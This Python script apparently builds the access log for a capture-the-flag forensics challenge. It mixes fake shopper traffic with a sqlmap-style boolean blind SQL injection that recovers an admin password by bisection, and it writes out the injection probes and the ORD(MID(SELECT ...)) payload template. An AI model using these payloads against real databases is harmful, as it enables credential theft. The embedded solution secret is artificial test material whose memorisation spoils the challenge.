#!/usr/bin/env python3
"""Regenerate files/access.log of content/challenges/blind-spot (deterministic: fixed seed and dates).

A web shop's access log with ordinary traffic and a boolean-based blind SQL injection that extracts one
value character by character with a binary search. True and false answers differ only in response size.
The payloads have sqlmap's shape for MySQL (ORD(MID((SELECT IFNULL(CAST(...) AS NCHAR),0x20) ...),i,1))>N),
its bisection over the codes 0-127 starting at 64, and its end of a value: the first position whose code
is 0 (MID past the end), where every answer is false.
"""
import random
from datetime import datetime, timedelta, timezone
from urllib.parse import quote

from shared.output import challenge_files, write_text

OUT = challenge_files("blind-spot")

ATTACKER = "203.0.113.45"
UA_TOOL = "sqlmap/1.8.4#stable (https://sqlmap.org)"
SECRET = "Tid3P00l#9"
SUBQUERY = "(SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM shop.users WHERE username=0x61646d696e LIMIT 0,1)"
TRUE_SIZE, FALSE_SIZE = 4731, 1893
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
]
CUSTOMERS = ["198.51.100.14", "198.51.100.87", "198.51.100.120", "192.0.2.201", "192.0.2.9", "198.51.100.66"]
PAGES = [("/", 8211), ("/category.php?cat=tea", 6120), ("/category.php?cat=kettles", 5877),
         ("/product.php?id=3", 4702), ("/product.php?id=7", TRUE_SIZE), ("/product.php?id=12", 4688),
         ("/cart.php", 2210), ("/static/css/shop.css", 18231), ("/static/js/shop.js", 9120),
         ("/search.php?q=green+tea", 5320), ("/search.php?q=cast+iron", 4991)]


def main() -> None:
    rng = random.Random(1337)
    entries: list[tuple[datetime, str]] = []

    def log(at, ip, path, status, size, ua, ref="-"):
        stamp = at.strftime("%d/%b/%Y:%H:%M:%S +0000")
        entries.append((at, f'{ip} - - [{stamp}] "GET {path} HTTP/1.1" {status} {size} "{ref}" "{ua}"'))

    start = datetime(2026, 5, 16, 22, 0, 0, tzinfo=timezone.utc)
    # background shoppers over ~75 minutes
    for _ in range(140):
        at = start + timedelta(seconds=rng.randrange(75 * 60))
        path, size = rng.choice(PAGES)
        log(at, rng.choice(CUSTOMERS), path, 200, size, rng.choice(UAS), "https://shop.example.com/")

    t = start + timedelta(minutes=21, seconds=14)

    def probe(condition: str | None, status=None, size=None, raw=None):
        nonlocal t
        payload = raw if raw is not None else f"7 AND {condition}"
        path = "/product.php?id=" + quote(payload, safe="")
        log(t, ATTACKER, path, status or 200, size, UA_TOOL)
        t += timedelta(milliseconds=rng.randint(180, 900))

    # reconnaissance and injection tests
    log(t, ATTACKER, "/", 200, 8211, UA_TOOL)
    t += timedelta(seconds=1)
    log(t, ATTACKER, "/product.php?id=7", 200, TRUE_SIZE, UA_TOOL)
    t += timedelta(seconds=1)
    probe(None, 500, 312, raw="7'")
    probe(None, 200, TRUE_SIZE, raw="7 AND 1=1")
    probe(None, 200, FALSE_SIZE, raw="7 AND 1=2")
    probe(None, 200, TRUE_SIZE, raw="7 AND 5213=5213")
    probe(None, 200, FALSE_SIZE, raw="7 AND 5213=5214")
    # same tests on another parameter, no effect
    for q in ["tea'", "tea AND 1=1", "tea AND 1=2"]:
        log(t, ATTACKER, "/search.php?q=" + quote(q, safe=""), 200, 5104, UA_TOOL)
        t += timedelta(milliseconds=rng.randint(180, 900))

    def bisect(expr: str, value: int) -> None:
        """sqlmap's bisection: halve the table of candidate codes until one is left."""
        table = list(range(128))
        while len(table) != 1:
            position = len(table) >> 1
            guess = table[position]
            truth = value > guess
            probe(f"{expr}>{guess}", 200, TRUE_SIZE if truth else FALSE_SIZE)
            table = table[position:] if truth else table[:position]

    t += timedelta(seconds=6)
    # one position past the end: MID returns nothing, ORD gives 0, and sqlmap stops
    for i, code in enumerate([ord(ch) for ch in SECRET] + [0], start=1):
        bisect(f"ORD(MID({SUBQUERY},{i},1))", code)
    t += timedelta(seconds=40)
    # the attacker logs in with the recovered password
    log(t, ATTACKER, "/admin/login.php", 200, 1420,
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0")

    entries.sort(key=lambda e: e[0])
    write_text(OUT / "access.log", "\n".join(line for _, line in entries) + "\n")
    print("wrote", OUT / "access.log", len(entries), "lines")


if __name__ == "__main__":
    main()
